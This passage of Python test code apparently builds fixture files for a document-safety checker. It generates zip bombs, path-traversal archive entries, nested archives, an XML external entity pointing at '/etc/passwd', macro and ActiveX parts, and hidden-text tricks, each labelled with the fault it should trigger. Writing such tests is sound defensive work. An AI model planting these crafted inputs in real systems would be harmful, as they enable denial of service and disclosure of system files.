    yield "personal-data", "notes.txt", b"Call 07700 900417 and ask for her.\n"
    yield "small-number", "counts.csv", b"Offence,Number of officers\nArson,120\nFraud,2\n"
    yield "active-formula", "active.csv", b'Offence,Number\nArson,"=HYPERLINK(""https://example.org"")"\n'
    yield "outside-print-area", "far.csv", b"a,b\n1,2\n" + b"\n" * 40 + b"x,Jane\n"
    yield "hidden-text", "turned.txt", "The name is \u202enotelpmaxE\u202c.\n".encode()


def _refused() -> Iterator[Fault]:
    yield "password-protected", "locked.xlsx", compound({"EncryptedPackage": b"x", "EncryptionInfo": b"y"})
    yield (
        "password-protected",
        "locked.ods",
        _locked_ods(),
    )
    yield "corrupt-file", "cut.xlsx", book()[:-200]
    yield (
        "corrupt-file",
        "before.zip",
        b"PK\x03\x04" + b"\0" * 60 + packed({"a.csv": "a"}),
    )
    yield "corrupt-file", "markup.docx", document({DOCUMENT: "<w:document"})
    yield "zip-bomb", "bomb.zip", packed({"a.txt": b"\0" * 30_000_000})
    yield "zip-bomb", "bomb.xlsx", book({"xl/media/a.bin": b"\0" * 30_000_000})
    yield "unsafe-path", "up.zip", packed({"../../a.txt": "a"})
    yield "unsafe-path", "absolute.zip", packed({"C:/a.txt": "a"})
    yield "unsafe-path", "twice.xlsx", doubled(book(), SHEET)
    yield "unsafe-xml", "entities.xlsx", book({SHEET: lambda held: held.replace("?>", '?><!DOCTYPE a [<!ENTITY b "c">]>', 1)})
    yield (
        "unsafe-xml",
        "outside.docx",
        document({DOCUMENT: lambda held: held.replace("?>", '?><!DOCTYPE a SYSTEM "file:///etc/passwd">', 1)}),
    )
    yield "nested-archive", "deep.zip", nested(7)
    yield "nested-archive", "deeper.zip", nested(12)
    yield "wrong-extension", "really.docx", book()
    yield "wrong-extension", "really.csv", packed({"a.csv": "a"})
    yield "macros", "macro.xlsm", book_part("vbaProject", "vbaProject.bin", b"x")
    yield "script", "control.xlsx", sheet_part("control", "activeX/activeX1.xml", "<a/>")
    yield "unread-format", "film.mp4", b"\0\0\0\x18ftypmp42" + bytes(100)
    yield "unread-format", "old.xls", old_workbook()
    yield "hidden-sheet", "older.xls", old_workbook()
    yield "pivot-cache", "old-pivot.xls", compound({"Workbook": struct.pack("<HH", 0x0A, 0), "_SX_DB_CUR": b"x"})


def old_workbook() -> bytes:
    """An old workbook with a hidden sheet."""
    line = struct.pack("<IBBBB", 0, 1, 0, 2, 0) + b"HR"
    return compound({"Workbook": struct.pack("<HH", 0x85, len(line)) + line + struct.pack("<HH", 0x0A, 0)})


def _locked_ods() -> bytes:
    made = sheets()
    return altered(made, {"META-INF/manifest.xml": every("/>", "><m:encryption-data/></m:file-entry>")})


def nested(depth: int) -> bytes:
    """Archives in archives."""
    data = packed({"a.txt": "a"})
    for _ in range(depth):
        data = packed({"inner.zip": data})
    return data


def doubled(data: bytes, part: str) -> bytes:
    """An archive with a part twice: readers differ in which of the two they take."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, held in parts_of(data).items():
            archive.writestr(name, held)
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr(part, b"<worksheet/>")
    return kept.getvalue()
